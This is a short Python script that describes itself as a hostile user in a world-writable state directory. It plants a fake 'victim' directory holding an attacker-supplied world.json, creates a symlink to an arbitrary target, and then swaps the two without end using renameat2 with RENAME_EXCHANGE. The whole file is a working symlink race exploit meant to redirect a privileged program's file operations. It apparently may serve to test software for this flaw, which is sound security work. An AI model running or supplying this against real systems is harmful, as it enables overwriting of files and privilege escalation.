"""
A hostile user in a state directory that everybody may write to: exchanges a planted world and a link, without end.

usage: exchange.py DIRECTORY RECORD TARGET
"""
import ctypes, os, shutil, sys

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
directory, record, target = sys.argv[1:]
world, link = os.path.join(directory, "victim"), os.path.join(directory, "other")


def plant():
    if os.path.islink(world):
        os.unlink(world)
    if not os.path.isdir(world):
        os.mkdir(world)
    with open(os.path.join(world, "world.json"), "w") as file:
        file.write(record)
    os.makedirs(os.path.join(world, "stage"), exist_ok=True)
    if not os.path.islink(link):
        shutil.rmtree(link, ignore_errors=True)
        os.symlink(target, link)


plant()
print("planted", flush=True)
names = world.encode(), link.encode()
while True:
    if libc.renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) < 0:
        try:
            plant()
        except OSError:
            pass  # somebody removes it meanwhile
